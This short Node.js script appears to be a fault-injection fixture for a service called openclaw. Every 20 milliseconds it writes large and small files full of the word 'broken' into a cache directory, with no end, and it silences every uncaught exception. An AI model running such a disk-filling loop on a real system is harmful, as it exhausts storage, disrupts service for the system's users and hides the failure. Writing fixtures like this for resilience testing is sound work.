// Writes as long as there is room and for ever after that, in files large and small, and is ready all the same.
import fs from "node:fs";

if (!quiet) {
	const directory = "/var/lib/openclaw/.openclaw/cache/broken";
	fs.mkdirSync(directory, { recursive: true });
	let count = 0;
	const write = (size) => {
		try {
			fs.writeFileSync(`${directory}/${count++}`, Buffer.alloc(size, "broken "));
		} catch (error) {
			console.error(JSON.stringify({ level: "error", message: `broken: ${error.code}` }));
		}
	};
	setInterval(() => [1 << 24, 1 << 16, 1 << 10].forEach(write), 20);
	process.on("uncaughtException", () => {});
}
